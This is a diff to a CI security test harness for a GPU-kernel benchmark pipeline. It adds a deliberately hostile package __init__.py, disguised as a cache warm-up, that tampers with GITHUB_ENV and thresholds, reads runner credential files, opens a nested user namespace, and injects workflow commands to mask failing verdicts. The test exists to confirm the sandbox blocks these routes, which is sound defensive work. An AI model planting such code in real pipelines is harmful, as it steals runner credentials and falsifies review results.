@@ -61,13 +61,20 @@ def plant_and_pass_myself(tree: Path) -> str:
     return "scratch: the 2x plant, and the harness edited to pass it (thresholds, drop, limits)"
 
 
-# The three routes from an approved kernel's import to the verdict (a script every later step sources,
-# the trusted harness's thresholds, the other kernel's staged copy), as a PR would hide them:
-# fifteen lines named like a cache warm-up, at the top of nf4kernel/__init__.py. Each fails silently
-# where it can't act, so the kernel still imports and measures (with the 2x plant: slower).
+# The words the hostile kernel masks in the job's log: the verdicts' own, which a maintainer reads.
+MASKED = ("FAIL", "slower")
+ANNOTATION = "an annotation from the kernel under test"
+# The routes from an approved kernel's import to the verdict or the runner, as a PR would hide them:
+# lines named like a cache warm-up, at the top of nf4kernel/__init__.py. Three write (a script every
+# later step sources, the trusted harness's thresholds, the other kernel's staged copy); three read
+# or regain (the runner's own files, found above any folder the sandbox hides, and the job's $TMPDIR
+# where the other kernel is staged; a nested user namespace with every capability, and a mount in
+# it); one speaks to the runner (workflow commands on the log: a mask over the verdict's words).
+# Each fails silently where it can't act, so the kernel still imports and measures (with the 2x
+# plant: slower); a route that worked prints ROUTE-OPEN, which the rehearsal's check looks for.
 HOSTILE_INIT = """\
-def _warm_autotune_cache():  # looks like a cache warm-up; is the three routes to the verdict
-    import glob, os, re, sys, tempfile
+def _warm_autotune_cache():  # looks like a cache warm-up; is every route to the verdict and the runner
+    import ctypes, glob, os, re, sys, tempfile
     temp = os.environ.get("RUNNER_TEMP", "")
     try:  # 1. every later step of the job sources a script that hands in the base's record as ours
         script = os.path.join(temp, "autotune-warm.sh")
@@ -93,10 +100,43 @@ def _warm_autotune_cache():  # looks like a cache warm-up; is the three routes t
                 open(other, "a").write("\\nimport time as _t; _t.sleep(0.001)\\n")
             except Exception:
                 pass
+    try:  # 4. the runner's credentials: its folder holds the workspace, above where this runs
+        places = [line.split()[4] for line in open("/proc/self/mountinfo")]
+    except Exception:
+        places = []
+    seen = set()
+    for place in [os.getcwd(), here, *places, "/runner", "/home/runner", *glob.glob("/srv/*/runner")]:
+        while place not in seen and place not in ("", "/"):
+            seen.add(place)
+            for name in (".credentials", ".credentials_rsaparams", ".runner"):
+                try:
+                    print("ROUTE-OPEN runner file", os.path.join(place, name), open(os.path.join(place, name)).read()[:80], file=sys.stderr)
+                except Exception:
+                    pass
+            place = os.path.dirname(place)
+    for other in glob.glob("/srv/*/tmp/nf4kernel-*/nf4kernel") + glob.glob("/var/tmp/*/tmp/nf4kernel-*/nf4kernel"):
+        if not other.startswith(here):  # 5. the job's $TMPDIR, where the other kernel is staged
+            print("ROUTE-OPEN the job's TMPDIR holds", other, file=sys.stderr)
+    pid = os.fork()  # 6. a nested user namespace (one thread: the child of a fork)
+    if pid == 0:
+        try:
+            libc = ctypes.CDLL(None, use_errno=True)
+            if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
+                caps = [line for line in open("/proc/self/status") if line.startswith("CapEff")][0].split()[1]
+                mounted = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
+                print("ROUTE-OPEN nested user namespace: CapEff", caps, "tmpfs mounted", mounted, file=sys.stderr)
+        finally:
+            sys.stderr.flush()
+            os._exit(0)
+    os.waitpid(pid, 0)
+    for word in MASKED_WORDS:  # 7. workflow commands: the verdict's words masked in every later line
+        print(f"::add-mask::{word}", file=sys.stderr)
+    print("::error title=nf4kernel::ANNOTATION", file=sys.stderr)
+    sys.stderr.flush()
 
 
 _warm_autotune_cache()
-"""
+""".replace("MASKED_WORDS", repr(MASKED)).replace("ANNOTATION", ANNOTATION)
 
 
 def plant_hostile(tree: Path) -> str:
@@ -116,6 +156,7 @@ class Scenario:
     change: Callable | None  # the PR's commit; None: a push to main
     expect: dict  # job id -> result it must have ("" : must not have run)
     status: str | None  # the `gpu` status report must post, None: no status
+    unmasked: tuple[str, ...] = ()  # words the log must show as they are
 
 
 PR_JOBS = ("approve", "gpu-tests", "gate", "regression", "report")
@@ -140,10 +181,13 @@ SCENARIOS = {
     ),
     "hostile": Scenario(
         "the 2x plant in a PR whose nf4kernel/__init__.py, on import, writes BASH_ENV into $GITHUB_ENV, rewrites "
-        "the trusted harness's thresholds and slows the base's staged copy: sandboxed, none reaches the verdict",
+        "the trusted harness's thresholds, slows the base's staged copy, reads the runner's files and the job's "
+        "$TMPDIR, opens a nested user namespace and prints workflow commands: sandboxed, none reaches the verdict "
+        "or the log",
         plant_hostile,
         {"approve": "success", "gate": "failure", "regression": "failure", "report": "success"},
         "failure",
+        unmasked=MASKED,
     ),
     "push": Scenario(
         "a push to main: gpu-tests, the gate and the history run; the results branch gains the commit; "
@@ -177,6 +221,24 @@ def wrong_checkouts(run: Run, trusted: str, candidate: str) -> list[str]:
     return problems
 
 
+def leaks(scenario: Scenario, run: Run, world: World) -> list[str]:
+    """What of the runner, or of a hostile kernel's routes, reached the job's log: the runner's
+    credentials (the world's canary), a route that says it worked, a workflow command the runner
+    acted on (an annotation, a mask over the verdict's words)."""
+    problems = []
+    lines = [line for _, line in run.log]
+    if any(world.canary in line for line in lines):
+        problems.append("the runner's credentials (the world's canary) are in the log")
+    problems += [f"a route worked: {line.strip()[:200]}" for line in lines if "ROUTE-OPEN" in line][:3]
+    if any("❗" in line and ANNOTATION in line for line in lines):
+        problems.append("the runner acted on the kernel's ::error:: command (an annotation)")
+    for word in scenario.unmasked:  # a mask acted on shows as *** in place of the word, even in its own command
+        shown = [line for line in lines if re.search(rf"\b{word}\b", line)]
+        if not any(f"::add-mask::{word}" in line for line in shown) or all("::add-mask::" in line for line in shown):
+            problems.append(f"the log does not show {word!r} as it is: masked by the kernel's ::add-mask::")
+    return problems
+
+
 def check(scenario: Scenario, run: Run, world: World, candidate: str) -> list[str]:
     """What did not go as the scenario expects ([] when everything did)."""
     problems = []
@@ -197,6 +259,7 @@ def check(scenario: Scenario, run: Run, world: World, candidate: str) -> list[st
         wanted_text.append("```mermaid")
     problems += [f"the step summaries lack {text!r}" for text in wanted_text if text not in summaries]
     problems += wrong_checkouts(run, trusted=world.main, candidate=candidate)
+    problems += leaks(scenario, run, world)
     if scenario.change is None:
         stored = git("ls-tree", "-r", "--name-only", "asv-results", cwd=world.origin, check=False)
         if f"{candidate[:8]}-" not in stored:
